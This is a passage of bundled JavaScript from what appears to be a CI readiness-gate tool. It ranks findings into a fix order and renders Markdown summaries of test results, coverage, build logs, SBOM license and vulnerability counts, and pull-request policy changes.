import { createRequire as __rgCreateRequire } from 'node:module';
import { fileURLToPath as __rgFileURLToPath } from 'node:url';
import { dirname as __rgDirname } from 'node:path';
const require = __rgCreateRequire(import.meta.url);
const __rgFilename = __rgFileURLToPath(import.meta.url);
const __rgDirnameOf = __rgDirname(__rgFilename);
import {
  ConfigurationError,
  FILE_CLASSES,
  FROM_SOURCE,
  RULE_IDS,
  Redactor,
  UnsafeFileError,
  annotatable,
  authoredMarkdown,
  checkRunAnnotations,
  codeSpan,
  commitUrl,
  cutAtLine,
  dataMarkdown,
  details,
  encodePath,
  escapeMarkdown,
  formatHours,
  formatInt,
  formatPercent,
  globProblem,
  isRuleId,
  lineLink,
  locate,
  markdownMessage,
  mdLink,
  mdTable,
  percentIfCovered,
  plural,
  proofClause,
  readRegularText,
  repoPath,
  require_dist,
  require_picomatch,
  ruleDocUrl,
  safeRun,
  selectAnnotations,
  sentenceList,
  summaryLines,
  trustedRoots,
  unnamedGap,
  utf8Bytes,
  within
} from "./chunk-SMLQZCSD.js";
import {
  defaultCacheDir
} from "./chunk-QTNX3BKI.js";
import {
  require_spdx_expression_parse
} from "./chunk-RLDLGCUF.js";
import {
  __toESM
} from "./chunk-TCBXVWBI.js";

// src/model/types.ts
var SEVERITIES = ["P0", "P1", "P2"];
var AREAS = [
  "build",
  "tests",
  "security",
  "supply-chain",
  "deploy",
  "observability",
  "operations",
  "code-health"
];
var SKIP_REASONS = ["binary", "tooLarge", "generated", "ignored", "symlink", "unreadable", "output"];

// src/report/fix-first.ts
var RANK = { P0: 0, P1: 1, P2: 2 };
function fixGroups(findings) {
  const byRule = /* @__PURE__ */ new Map();
  const merged = /* @__PURE__ */ new Map();
  for (const f of findings) {
    const key = `${f.severity}\0${f.ruleId}`;
    let g = byRule.get(key);
    if (!g) {
      g = { ruleId: f.ruleId, severity: f.severity, title: f.title, findings: [], entries: [], effortMinutes: 0 };
      byRule.set(key, g);
    }
    g.findings.push(f);
    g.effortMinutes += f.effortMinutes;
    const same = `${key}\0${f.message}\0${f.evidence ?? ""}`;
    const entry = merged.get(same);
    if (entry && entry.finding.location.path !== f.location.path) {
      entry.also.push(f.location, ...f.related ?? []);
      entry.count++;
      continue;
    }
    const e = { finding: f, also: [...f.related ?? []], count: 1 };
    if (!entry) merged.set(same, e);
    g.entries.push(e);
  }
  for (const g of byRule.values()) for (const e of g.entries) e.also = distinctPlaces(e.finding.location, e.also);
  for (const g of byRule.values()) g.entries.sort((a, b) => Number(inProduct(b.finding)) - Number(inProduct(a.finding)));
  const product = (g) => g.findings.filter(inProduct).length;
  const proven = (g) => g.findings.filter((f) => f.certainty === "proven").length;
  return [...byRule.values()].sort(
    (a, b) => RANK[a.severity] - RANK[b.severity] || product(b) - product(a) || proven(b) - proven(a) || b.findings.length - a.findings.length || a.effortMinutes / a.findings.length - b.effortMinutes / b.findings.length || (a.ruleId < b.ruleId ? -1 : a.ruleId > b.ruleId ? 1 : 0)
  );
}
function inProduct(f) {
  return f.fileClass === void 0 || f.fileClass === "runtime";
}
function distinctPlaces(own, list) {
  const seen = /* @__PURE__ */ new Set([placeText(own)]);
  return list.filter((l) => {
    const k = placeText(l);
    if (seen.has(k)) return false;
    seen.add(k);
    return true;
  });
}
function placeText(l) {
  return l.path === "." ? "repository" : `${l.path}${l.line !== void 0 ? `:${l.line}` : ""}`;
}
function placeMarkdown(links, l, inTable = false) {
  const code = codeSpan(placeText(l), inTable);
  return links ? mdLink(code, lineLink(links, l.path, l.line)) : code;
}

// src/report/summary-code.ts
var CODE_HEALTH_METRICS = /* @__PURE__ */ new Set(["typeAnnotations"]);
var MAX_FILES = 10;
var LANGUAGE = { python: "Python", typescript: "TypeScript" };
function codeHealthBlocks(r, cap2) {
  const t = r.metrics.typeAnnotations;
  if (!t || typeof t.functions !== "number") return [];
  const langs = Object.entries(t.byLanguage ?? {}).sort((a, b) => a[0] < b[0] ? -1 : 1).map(([l, v]) => `${LANGUAGE[l] ?? escapeMarkdown(l)} ${pct(v.percent)} of ${formatInt(v.functions)}`);
  const threshold = t.threshold === void 0 ? "" : t.percent >= t.threshold ? `; required ${pct(t.threshold)} ✅` : `; required ${pct(t.threshold)} ❌`;
  const out = [
    `Type annotations: **${pct(t.percent)}** of ${plural(t.functions, "function")} fully typed${langs.length > 1 ? ` (${langs.join(", ")})` : ""}, ${formatInt(t.untyped)} untyped in ${plural(t.files, "file")}${threshold}.`
  ];
  const rows = (t.worstFiles ?? []).slice(0, Math.min(cap2, MAX_FILES));
  if (rows.length > 0) {
    const table = mdTable(
      ["File", "Functions", "Typed", "Share"],
      rows.map((w) => [r.links ? mdLink(codeSpan(w.path, true), lineLink(r.links, w.path)) : codeSpan(w.path, true), formatInt(w.functions), formatInt(w.typed), pct(w.percent)]),
      ["l", "r", "r", "r"]
    );
    out.push(details(`Files with the most untyped functions (${rows.length})`, table));
  }
  return out;
}
function pct(n) {
  return `${Math.round(n * 10) / 10}%`;
}

// src/report/summary-evidence.ts
var COLLAPSE_OVER = 10;
var COVERAGE_ROWS = 15;
function evidenceSections(r, cap2) {
  const e = r.evidence;
  if (!e) return [];
  return [...testsSection(r, e, cap2), ...coverageSection(r, e.coverage, cap2), ...buildSection(r, e, cap2)];
}
function testsSection(r, e, cap2) {
  const t = e.tests;
  if (t.reports.length === 0) {
    return t.given ? ["### Tests", `⚠️ No file matches ${codeSpan(r.options.testReports.join(", "))}: no test results to show.`] : [];
  }
  const out = ["### Tests"];
  const usable = t.reports.filter((x) => x.error === void 0);
  if (usable.length > 0) {
    const icon = t.failed > 0 ? "❌" : t.flaky > 0 ? "🟡" : t.total - t.skipped > 0 ? "✅" : "⚠️";
    out.push(
      `${icon} **${plural(t.total, "test")}**: ${formatInt(t.passed)} passed, ${formatInt(t.failed)} failed, ${formatInt(t.skipped)} skipped, ${formatInt(t.flaky)} flaky · ${duration(t.durationSec)} · from ${reportList(usable)}.`
    );
  }
  out.push(...unreadableLines(t.reports));
  const cutFailed = t.cut?.failed ?? 0;
  const cutFlaky = t.cut?.flaky ?? 0;
  if (cutFailed + cutFlaky > 0) {
    const parts = [cutFailed > 0 ? plural(cutFailed, "more failing test") : "", cutFlaky > 0 ? plural(cutFlaky, "more flaky test") : ""].filter(Boolean);
    out.push(`… and ${parts.join(" and ")} not listed (only the first ${formatInt(t.failures.length + t.flakes.length)} are kept).`);
  }
  const problems = [...t.failures, ...t.flakes];
  if (problems.length > 0 && cap2 > 0) {
    const shown = problems.slice(0, cap2);
    const rows = shown.map((p) => [escapeMarkdown(p.fullName, "br"), p.kind, where(r, p), p.message ? codeSpan(p.message, true) : ""]);
    const table = mdTable(["Test", "Result", "Where", "Failure"], rows) + more(problems.length, shown.length, "test");
    out.push(problems.length > COLLAPSE_OVER ? details(`${formatInt(t.failed)} failed and ${formatInt(t.flaky)} flaky tests (click to expand)`, table) : table);
  }
  return out;
}
function coverageSection(r, c, cap2) {
  if (c.reports.length === 0 && c.threshold === void 0) return [];
  const out = ["### Coverage"];
  if (c.reports.length === 0) {
    out.push(`⚠️ No coverage report ${c.given ? `matches ${codeSpan(r.options.coverageReports.join(", "))}` : "was found"}, so the threshold of ${c.threshold}% cannot be checked.`);
    return out;
  }
  const usable = c.reports.filter((x) => x.error === void 0);
  if (c.percent !== null) {
    const bar = c.threshold === void 0 ? "no threshold set" : c.percent >= c.threshold ? `✅ meets the threshold of **${c.threshold}%**` : `❌ below the threshold of **${c.threshold}%** by ${(c.threshold - c.percent).toFixed(1)} points`;
    out.push(`**${formatPercent(c.percent, c.threshold)}** of lines covered (${formatInt(c.covered)} of ${formatInt(c.total)}, ${plural(c.files.length, "file")}) · ${bar} · from ${reportList(usable)}.`);
  } else if (usable.length > 0) {
    out.push(`⚠️ The coverage reports (${reportList(usable)}) measure no line.`);
  }
  out.push(...unreadableLines(c.reports));
  const costly = c.files.filter((f) => f.covered < f.total);
  if (c.percent !== null && costly.length > 0) {
    const worst = costly[0];
    out.push(
      `**What if:** covering ${codeSpan(worst.path)} (${pct2(worst.covered, worst.total)} of ${plural(worst.total, "line")}) would lift the total from ${formatPercent(c.percent, c.threshold)} to ${formatPercent(percentIfCovered(c, worst))}.`
    );
    const n = Math.min(cap2, COVERAGE_ROWS);
    if (n > 0) {
      const rows = costly.slice(0, n).map((f) => [
        codeSpan(f.path, true) + (f.inRepo ? "" : " (not in this checkout)"),
        pct2(f.covered, f.total),
        formatInt(f.total),
        formatInt(f.total - f.covered),
        formatPercent(percentIfCovered(c, f))
      ]);
      out.push(mdTable(["File (most uncovered lines first)", "Covered", "Lines", "Uncovered", "Total if covered"], rows, ["l", "r", "r", "r", "r"]) + more(costly.length, n, "file"));
    }
  }
  return out;
}
function buildSection(r, e, cap2) {
  const b = e.build;
  if (!b.given) return [];
  const out = ["### Build logs"];
  if (b.reports.length === 0) return [...out, `⚠️ No file matches ${codeSpan(r.options.buildLogs.join(", "))}.`];
  const usable = b.reports.filter((x) => x.error === void 0);
  if (usable.length > 0) {
    const icon = b.errors > 0 ? "❌" : b.warnings > 0 ? "🟡" : "✅";
    out.push(`${icon} ${plural(b.errors, "error")}, ${plural(b.warnings, "warning")} in ${reportList(usable)}${b.errors > 0 ? " (warnings are not listed while there are errors)" : ""}.`);
  }
  out.push(...unreadableLines(b.reports));
  if ((b.omitted ?? 0) > 0) out.push(`… and ${plural(b.omitted, "more diagnostic")} not listed (only the first ${formatInt(b.diagnostics.length)} are kept).`);
  if (b.diagnostics.length > 0 && cap2 > 0) {
    const shown = b.diagnostics.slice(0, cap2);
    const rows = shown.map((d) => [
      linkTo(r, d.location.path, d.location.line),
      d.severity,
      escapeMarkdown(`${d.tool}${d.code ? ` ${d.code}` : ""}`),
      escapeMarkdown(d.message, "br")
    ]);
    const table = mdTable(["Where", "Severity", "Tool", "Message"], rows) + more(b.diagnostics.length, shown.length, "diagnostic");
    out.push(b.diagnostics.length > COLLAPSE_OVER ? details(`${plural(b.diagnostics.length, "diagnostic")} (click to expand)`, table) : table);
  }
  return out;
}
function unreadableLines(reports) {
  const bad = reports.filter((x) => x.error !== void 0);
  if (bad.length === 0) return [];
  return [bad.map((x) => `⚠️ ${codeSpan(x.path)} could not be used: ${escapeMarkdown(x.error)}.`).join("<br>\n")];
}
function reportList(reports) {
  const named = reports.slice(0, 3).map((x) => codeSpan(x.path) + (x.format ? ` (${x.format})` : ""));
  return named.join(", ") + (reports.length > 3 ? ` and ${formatInt(reports.length - 3)} more` : "");
}
function where(r, p) {
  return p.location ? linkTo(r, p.location.path, p.location.line) : codeSpan(p.report, true);
}
function linkTo(r, path, line) {
  const code = codeSpan(`${path}${line !== void 0 ? `:${line}` : ""}`, true);
  return r.links && !path.startsWith("/") ? mdLink(code, lineLink(r.links, path, line)) : code;
}
function pct2(covered, total) {
  if (total === 0) return "–";
  const p = covered / total * 100;
  return `${p > 0 && p < 1 ? p.toFixed(1) : Math.floor(p)}%`;
}
function duration(sec) {
  if (sec < 60) return `${Math.round(sec * 10) / 10} s`;
  const m = Math.floor(sec / 60);
  return `${m} min ${Math.round(sec - m * 60)} s`;
}
function more(total, shown, what) {
  return total > shown ? `

…and ${plural(total - shown, `more ${what}`)}: see the JSON report or SARIF.` : "";
}

// src/report/summary-sbom.ts
function sbomSection(r, cap2) {
  const s = r.sbom;
  if (!s) return [];
  const out = ["### SBOM"];
  const parsed = s.lockfiles.filter((l) => l.status === "parsed");
  out.push(
    `${codeSpan(s.path)} (CycloneDX ${s.specVersion} ${s.format.toUpperCase()}): ${plural(s.components, "component")} from ${plural(parsed.length, "lockfile or manifest", "lockfiles and manifests")} — ${formatInt(s.direct)} direct, ${formatInt(s.transitive)} transitive, ${formatInt(s.dev)} for development only.`
  );
  const eco = Object.entries(s.ecosystems).sort((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : 1));
  if (eco.length > 0) out.push(`**Ecosystems:** ${eco.map(([k, n]) => `${escapeMarkdown(k)} ${formatInt(n)}`).join(", ")}.`);
  const lic = Object.entries(s.licenses.spdx).sort((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : 1));
  const top = lic.slice(0, Math.min(cap2, 8)).map(([k, n]) => `${escapeMarkdown(k)} (${formatInt(n)})`);
  out.push(
    `**Licenses:** ${top.length > 0 ? top.join(", ") : "none recorded"}${lic.length > top.length ? `, and ${plural(lic.length - top.length, "other")}` : ""}; ${formatInt(s.licenses.unknown)} without a recorded SPDX license.`
  );
  const v = s.vulnerabilities;
  if (v && !v.checked) out.push(`**Vulnerabilities:** not checked — ${escapeMarkdown(v.reason ?? "OSV could not be reached")}.${withheldNote(v.withheld)}`);
  else if (v) {
    const parts = ["critical", "high", "medium", "low", "unknown"].filter((k) => v.bySeverity[k] > 0).map((k) => `${formatInt(v.bySeverity[k])} ${k}`);
    out.push(`**Vulnerabilities (OSV):** ${v.components === 0 ? "no known advisory" : `${plural(v.components, "component")} with advisories (${parts.join(", ")})`}.${withheldNote(v.withheld)}`);
  }
  const bad = s.lockfiles.filter((l) => l.status !== "parsed");
  const notes = [];
  if (bad.length > 0) {
    notes.push(mdTable(["File", "Status", "Why"], bad.slice(0, cap2).map((l) => [codeSpan(l.path, true), l.status, escapeMarkdown(l.reason ?? "", "br")])));
  }
  if (s.skipped.length > 0) {
    const byReason = /* @__PURE__ */ new Map();
    for (const k of s.skipped) byReason.set(k.reason, [...byReason.get(k.reason) ?? [], k.name]);
    const rows = [...byReason.entries()].sort((a, b) => b[1].length - a[1].length || (a[0] < b[0] ? -1 : 1)).slice(0, cap2).map(([reason, names]) => [escapeMarkdown(reason), formatInt(names.length), escapeMarkdown(names.slice(0, 3).join(", ") + (names.length > 3 ? ", …" : ""), "br")]);
    notes.push(mdTable(["Not a component because", "Entries", "For example"], rows, ["l", "r", "l"]));
  }
  if (notes.length > 0 && cap2 >= 50) out.push(details(`What the SBOM leaves out (${plural(bad.length + s.skipped.length, "entry", "entries")})`, notes.join("\n\n")));
  return out;
}
var WITHHELD_WHY = {
  workspace: "in this repository",
  "private-packages": "matched by private-packages",
  scope: "private scope or source mapping",
  registry: "private registry",
  goprivate: "GOPRIVATE",
  "project-group": "the project's own Maven groups"
};
function withheldNote(withheld) {
  const parts = Object.entries(withheld ?? {}).filter((e) => (e[1] ?? 0) > 0);
  if (parts.length === 0) return "";
  const total = parts.reduce((n, [, k]) => n + k, 0);
  return ` ${plural(total, "component")} not sent to OSV: ${parts.map(([k, n]) => `${formatInt(n)} ${WITHHELD_WHY[k] ?? escapeMarkdown(k)}`).join(", ")}.`;
}

// src/report/summary-policy.ts
var POLICY_CHANGES_HEADING = "### 🛡️ Policy changes in this pull request";
function policySection(r, cap2) {
  const p = r.policy;
  if (!p || !p.pullRequest && p.origin.kind === "checkout") return [];
  const out = [`**Policy:** ${origin(p)}`];
  if (p.changes.length === 0) return out;
  const notApplied = p.changes.filter((c) => !c.applied).length;
  out.push(
    POLICY_CHANGES_HEADING,
    `This pull request changes the gate's own policy (${plural(p.changes.length, "change")}, ${formatNot(notApplied)} not applied). The configuration and baseline in force are the base commit's; a new inline suppression of a P0 finding does not suppress it, one of a P1 does and is listed for review.`
  );
  const shown = p.changes.slice(0, Math.max(cap2, 0));
  if (shown.length > 0) out.push(shown.map(item).join("\n"));
  if (p.changes.length > shown.length) out.push(`…and ${plural(p.changes.length - shown.length, "more change")}: see the JSON report's \`policy\` block.`);
  return out;
}
function formatNot(n) {
  return n === 0 ? "none" : String(n);
}
function origin(p) {
  const o = p.origin;
  const file = p.configFile ? ` (${codeSpan(p.configFile)})` : "";
  switch (o.kind) {
    case "base-commit":
      return p.configFile ? `the configuration of the base commit ${codeSpan(o.sha.slice(0, 12))}${file}, read from ${o.via === "git" ? "the checkout" : "the contents API"}; the pull request's own configuration is not applied.` : `the built-in defaults: the base commit ${codeSpan(o.sha.slice(0, 12))} has no configuration file; the pull request's own is not applied.`;
    case "trusted-file":
      return `the platform configuration${file}, named by the \`config\` input outside the repository.`;
    case "trusted-remote":
      return `the platform configuration ${codeSpan(o.ref)}, read through the contents API.`;
    case "defaults":
      return `⚠️ the built-in defaults: ${escapeMarkdown(o.reason)}. The pull request's own configuration is not applied.`;
    case "checkout":
      return `the checked-out configuration${file}.`;
  }
}
function item(c) {
  const status = c.applied ? "**applied**, listed for review" : "**not applied**";
  const what = c.kind === "config" ? `Configuration file ${codeSpan(c.path)}` : c.kind === "baseline" ? `Baseline ${codeSpan(c.path)}` : c.kind === "repository-map" ? `Repository map configuration ${codeSpan(c.path)}` : `Inline suppression ${codeSpan(`${c.path}:${c.line ?? ""}`)}${c.directive ? ` ${codeSpan(c.directive)}` : ""}`;
  return [`- ${what}: ${status}`, ...c.details.map((d) => `  - ${escapeMarkdown(d)}`)].join("\n");
}

// src/report/summary.ts
var SUMMARY_LIMIT_BYTES = 1e6;
var FIRST_PLACES = 5;
var NAMED_BLOCKERS = 5;
var COLLAPSE_OVER2 = 10;
var ALL = SEVERITIES;
var LIST = { P0: "list", P1: "list", P2: "list" };
var COMPACT = { P0: "list", P1: "line", P2: "line" };
var PLANS = [
  { style: LIST, listed: ALL, rest: true },
  { style: { P0: "list", P1: "list", P2: "line" }, listed: ALL, rest: true },
  { style: COMPACT, listed: ALL, rest: true },
  ...[1e3, 500, 200, 100, 50, 20].map((cap2) => ({ style: COMPACT, cap: cap2, listed: ALL, rest: true })),
  // Caps count places per rule: with only the blocking rules left, down to one place each.
  ...[20, 5, 1].map((cap2) => ({ style: COMPACT, cap: cap2, listed: ["P0"], rest: true })),
  { style: COMPACT, cap: 10, listed: [], rest: true },
  { style: COMPACT, cap: 0, listed: [], rest: false }
];
function renderSummary(r, limitBytes = SUMMARY_LIMIT_BYTES) {
  const groups = fixGroups(r.findings);
  for (const plan of PLANS) {
    const md = render(r, groups, plan);
    if (utf8Bytes(md) <= limitBytes) return md;
  }
  return minimal(r, limitBytes);
}
var SEVERITY_ICON = { P0: "🔴", P1: "🟠", P2: "🟡" };
var SEVERITY_TEXT = {
  P0: "must be fixed before production",
  P1: "should be fixed before release",
  P2: "can follow the release"
};
function render(r, groups, plan) {
  const blocks = [...banner(r, groups, plan.cap !== 0)];
  if (plan.cap !== void 0) {
    blocks.push(
      `> **Note:** some lists are shortened to keep this summary under GitHub's size limit. The JSON report${r.options.report ? ` (${codeSpan(r.options.report)})` : ""} and the SARIF have every finding.`
    );
  }
  blocks.push(...policySection(r, plan.cap ?? Infinity));
  blocks.push(...fixFirst(r, groups, plan));
  blocks.push(...dashboard(r));
  if (plan.rest) {
    const cap2 = plan.cap ?? Infinity;
    blocks.push(...gapSection(r, cap2));
    blocks.push(...checksSection(r, cap2));
    blocks.push(...evidenceSections(r, cap2));
    blocks.push(...metricsSections(r, cap2));
    blocks.push(...effortSection(r, groups, cap2));
    blocks.push(...profileSection(r));
    if (plan.listed.length > 0) blocks.push(...mapSection(r));
    blocks.push(...skippedSection(r, cap2));
    blocks.push(...suppressedSection(r, plan.listed.length === 0 ? 0 : cap2));
  }
  blocks.push(footer(r));
  return `${blocks.join("\n\n")}
`;
}
function banner(r, groups, links = true) {
  const head = r.verdict.blocked ? "## ⛔ BLOCKED: this commit is not ready for production" : "## ✅ READY: nothing blocks this commit from production";
  let why;
  if (r.verdict.blocked) {
    why = blockerSentence(r, groups, links);
  } else if (r.options.failOn === "never") {
    why = "**Why:** fail-on is `never`: findings are reported and none blocks.";
  } else {
    const below = SEVERITIES.filter((s) => r.counts[s] > 0).map((s) => `${formatInt(r.counts[s])} ${s}`);
    why = `**Why:** no finding at or above ${r.options.failOn} and every threshold is met` + (below.length > 0 ? ` (${below.join(", ")} below the bar remain).` : ".");
  }
  const counts = SEVERITIES.map((s) => `**${formatInt(r.counts[s])}** ${s}`).join(" · ");
  const headline = `**Score ${r.score.value}/100, grade ${r.score.grade}** · ${counts} · ≈ ${formatHours(r.effortMinutes)} of fixes` + (r.suppressed.length > 0 ? ` · ${plural(r.suppressed.length, "suppressed finding")}` : "") + // READY beside a grade F reads like a contradiction unless it says which one decides.
  (!r.verdict.blocked && r.options.minScore === void 0 && (r.score.grade === "D" || r.score.grade === "F") ? " · the grade does not block (no `min-score` set)" : "");
  return [head, why, headline];
}
var COUNT_REASON = /^[\d,]+ P[0-2] findings?( \(new\))?$/;
function blockingGroups(r, groups) {
  const rank = { P0: 0, P1: 1, P2: 2 };
  if (r.options.failOn === "never") return [];
  const bar = rank[r.options.failOn];
  return groups.filter((g) => rank[g.severity] <= bar).map((g) => r.options.newFindingsOnly ? { ...g, findings: g.findings.filter((f) => f.baseline !== "existing") } : g).filter((g) => g.findings.length > 0);
}
function blockerSentence(r, groups, links = true) {
  const blocking = blockingGroups(r, groups);
  const others = r.verdict.reasons.map((x) => x.replace(/[.\s]+$/, "")).filter((x) => x !== "" && !COUNT_REASON.test(x));
  const named = blocking.slice(0, NAMED_BLOCKERS).map((g) => {
    const more2 = g.findings.length - 1;
    const at = links ? where2(r, g.findings[0], false) : codeSpan(placeText(g.findings[0].location));
    return `${escapeMarkdown(lowerFirst(g.title))} (${at}${more2 > 0 ? ` and ${formatInt(more2)} more` : ""})`;
  });
  const rest = blocking.length - named.length;
  if (rest > 0) named.push(`${plural(rest, "more blocking rule")}`);
  const also = others.length > 0 ? escapeMarkdown(others.join("; ")) : "";
  if (named.length === 0) return `**Why:** ${also || "the gate failed"}.`;
  return `**Blocked by** ${sentenceList(named)}.${also ? ` Also: ${also}.` : ""}`;
}
function lowerFirst(s) {
  return /^[A-Z][a-z]/.test(s) ? s.charAt(0).toLowerCase() + s.slice(1) : s;
}
function scope(r) {
  const source = r.files.source === "git" ? "the files of `git ls-files`" : "a directory walk";
  const mb = (r.files.bytes / 1e6).toFixed(1);
  let commit = "";
  if (r.commit) {
    const short = codeSpan(r.commit.slice(0, 12));
    commit = ` at commit ${r.links ? mdLink(short, commitUrl(r.links)) : short}`;
  }
  return `Scanned ${plural(r.files.scanned, "file")} (${mb} MB, ${source}) in ${codeSpan(r.root)}${commit}; profile **${r.profile.kind}**.`;
}
function dashboard(r) {
  const per = /* @__PURE__ */ new Map();
  for (const f of r.findings) per.set(`${f.area}/${f.severity}`, (per.get(`${f.area}/${f.severity}`) ?? 0) + 1);
  const rows = AREAS.map((a) => [
    a,
    r.score.areas[a] === void 0 ? "n/a" : String(r.score.areas[a]),
    ...SEVERITIES.map((s) => formatInt(per.get(`${a}/${s}`) ?? 0))
  ]);
  rows.push(["**total**", `**${r.score.value}** (${r.score.grade})`, ...SEVERITIES.map((s) => `**${formatInt(r.counts[s])}**`)]);
  return ["### Readiness by area", scope(r), mdTable(["Area", "Score", "P0", "P1", "P2"], rows, ["l", "r", "r", "r", "r"])];
}
function fixFirst(r, groups, plan) {
  if (groups.length === 0 || plan.listed.length === 0) return [];
  const out = [
    "### 🔧 Fix first",
    `${plural(groups.length, "rule")} in fix order: P0 first, then the most findings in the product (not tests or tooling), then the cheapest fix. The same finding in copies of one file is listed once, with its other places.`
  ];
  let n = 0;
  for (const s of SEVERITIES) {
    const gs = groups.filter((g) => g.severity === s);
    if (gs.length === 0) continue;
    const findings = gs.reduce((t, g) => t + g.findings.length, 0);
    const effort = gs.reduce((t, g) => t + g.effortMinutes, 0);
    const label = `${s}: ${plural(gs.length, "rule")}, ${plural(findings, "finding")}, ≈ ${formatHours(effort)} (${SEVERITY_TEXT[s]})`;
    if (!plan.listed.includes(s)) {
      n += gs.length;
      out.push(`${SEVERITY_ICON[s]} ${label}: not listed here, see the estimated effort below, the JSON report or SARIF.`);
      continue;
    }
    const body = gs.map((g) => groupBlock(r, g, ++n, plan)).join("\n\n");
    out.push(s === "P2" ? details(`${SEVERITY_ICON[s]} ${label}`, body) : body);
  }
  return out;
}
function groupBlock(r, g, n, plan) {
  const first = g.findings[0];
  const head = `**${n}. ${SEVERITY_ICON[g.severity]} ${escapeMarkdown(g.title)}** · ${g.severity} · ${ruleLink(r, g.ruleId, false)} · ${plural(g.findings.length, "finding")} · ≈ ${formatHours(g.effortMinutes)}`;
  const lines = [head, `**Fix:** ${authoredMarkdown(first.remediation)}`];
  const proven = g.findings.find((f) => proofClause(r, f) !== void 0);
  if (proven) lines.push(`**Proven:** ${authoredMarkdown(proofClause(r, proven))}.`);
  const cap2 = plan.cap ?? Infinity;
  const shown = g.entries.slice(0, cap2);
  const visible = shown.slice(0, FIRST_PLACES);
  const hidden = shown.slice(FIRST_PLACES);
  const render3 = (list) => plan.style[g.severity] === "list" ? entryList(r, list) : entryLines(r, list);
  const parts = [lines.join("<br>\n")];
  if (visible.length > 0) parts.push(render3(visible));
  if (hidden.length > 0) parts.push(details(`${plural(hidden.length, "more place")} of ${g.ruleId}`, render3(hidden)));
  const more2 = g.entries.length - shown.length;
  if (more2 > 0) parts.push(`…and ${plural(more2, "more place")} of ${codeSpan(g.ruleId)}: see the JSON report or SARIF.`);
  return parts.join("\n\n");
}
function entryList(r, list) {
  return list.map((e) => {
    const f = e.finding;
    const lines = [`- ${where2(r, f, false)} ${markdownMessage(r, f)} · ${f.certainty}${baselineTag(f)}`];
    const gap = unnamedGap(f);
    if (gap) lines.push(`  - Not proven: ${dataMarkdown(gap)}.`);
    if (f.evidence) lines.push(`  - Evidence: ${codeSpan(f.evidence)}`);
    if (e.also.length > 0) lines.push(`  - ${alsoAt(r, e)}`);
    return lines.join("\n");
  }).join("\n");
}
function entryLines(r, list) {
  return list.map((e) => {
    const f = e.finding;
    const copies = e.also.length > 0 ? ` · same in ${plural(e.also.length, "other place")}` : "";
    return `- ${where2(r, f, false)} ${markdownMessage(r, f)} · ${certaintyText(f)}${baselineTag(f)}${copies}`;
  }).join("\n");
}
function alsoAt(r, e) {
  const shown = e.also.slice(0, FIRST_PLACES).map((l) => place(r, l, false));
  const more2 = e.also.length - shown.length;
  return `Same in ${shown.join(", ")}${more2 > 0 ? ` and ${formatInt(more2)} more` : ""}`;
}
function certaintyText(f) {
  const gap = unnamedGap(f);
  return gap ? `likely: ${dataMarkdown(gap)}` : f.certainty;
}
function where2(r, f, inTable) {
  return place(r, f.location, inTable);
}
function place(r, l, inTable) {
  return placeMarkdown(r.links, l, inTable);
}
function ruleLink(r, ruleId, inTable) {
  return mdLink(codeSpan(ruleId, inTable), ruleDocUrl(r.tool.informationUri, ruleId));
}
function baselineTag(f) {
  return f.baseline === "new" ? " · **new**" : f.baseline === "existing" ? " · existing" : "";
}
var GAP_ICON = { present: "✅", missing: "❌", disabled: "⛔", mismatch: "⚠️", partial: "🟡", "n/a": "➖" };
function gapSection(r, cap2) {
  if (r.gaps.length === 0) return [];
  const rows = r.gaps.slice(0, cap2).map((g) => [g.area, escapeMarkdown(g.component, "br"), `${GAP_ICON[g.status] ?? ""} ${g.status}`, g.evidence ? codeSpan(g.evidence, true) : ""]);
  return ["### Gap analysis", mdTable(["Area", "Component", "Status", "Seen at"], rows) + moreLine(r.gaps.length, cap2, "component")];
}
var STATUS_TEXT = { error: "💥 error", inconclusive: "❔ inconclusive" };
var STATUS_ORDER = { error: 0, inconclusive: 1 };
function checksSection(r, cap2) {
  if (r.outcomes.length === 0) return [];
  const by = (st) => r.outcomes.filter((o) => o.status === st).length;
  const byId = (a, b) => a.ruleId < b.ruleId ? -1 : a.ruleId > b.ruleId ? 1 : 0;
  const blind = r.outcomes.filter((o) => o.status in STATUS_ORDER).sort((a, b) => STATUS_ORDER[a.status] - STATUS_ORDER[b.status] || byId(a, b));
  const na = r.outcomes.filter((o) => o.status === "not-applicable").sort(byId);
  const line = `${plural(r.outcomes.length, "check")} ran: ${formatInt(by("pass"))} passed, ${formatInt(by("fail"))} with findings, ${formatInt(blind.length)} could not tell${blind.length > 0 ? " (below: none of them counts as a pass)" : ""}${na.length > 0 ? `, ${formatInt(na.length)} not applicable` : ""}.`;
  const out = [blind.length > 0 ? "### Checks that could not tell" : "### Checks", line];
  if (blind.length > 0) {
    const rows = blind.slice(0, cap2).map((o) => [ruleLink(r, o.ruleId, true), STATUS_TEXT[o.status] ?? o.status, escapeMarkdown(o.reason ?? "", "br")]);
    out.push(mdTable(["Rule", "Status", "Reason"], rows) + moreLine(blind.length, cap2, "check"));
  }
  if (na.length > 0) out.push(`➖ Not applicable to this tree (${formatInt(na.length)}): ${na.map((o) => codeSpan(o.ruleId)).join(", ")}.`);
  return out;
}
var METRIC_TITLES = { tests: "Tests", coverage: "Coverage", typeCoverage: "Type coverage" };
var TITLED = ["tests", "coverage", "typeCoverage"];
function metricsSections(r, cap2) {
  const out = [];
  for (const key of TITLED) {
    const v = r.metrics[key];
    if (hasData(v)) out.push(`### ${METRIC_TITLES[key]}`, metricBody(v, cap2));
  }
  out.push(...sbomSection(r, cap2));
  const todos = todoLine(r);
  const code = codeHealthBlocks(r, cap2);
  if (todos || code.length > 0) out.push("### Code health", ...todos ? [todos] : [], ...code);
  const probes = r.metrics.probes;
  if (probes && probes.total > 0) {
    out.push(
      "### Probes",
      `${plural(probes.total, "HTTP probe")}: ${formatInt(probes.judged)} judged against the routes of the process that answers them (${formatInt(probes.served)} served, ${formatInt(probes.notServed)} not), ${formatInt(probes.total - probes.judged)} not judged (the JSON report's \`metrics.probes\` says why, probe by probe).`
    );
  }
  const others = Object.entries(r.metrics).filter(([k, v]) => !(k in METRIC_TITLES) && k !== "todos" && k !== "probes" && !CODE_HEALTH_METRICS.has(k) && hasData(v)).sort((a, b) => a[0] < b[0] ? -1 : a[0] > b[0] ? 1 : 0);
  if (others.length > 0) {
    const rows = others.flatMap(([k, v]) => {
      if (typeof v !== "object" || v === null || Array.isArray(v)) return [[escapeMarkdown(k), valueCell(v)]];
      return Object.keys(v).sort().map((sub) => [`${escapeMarkdown(k)} › ${escapeMarkdown(sub)}`, valueCell(v[sub])]);
    });
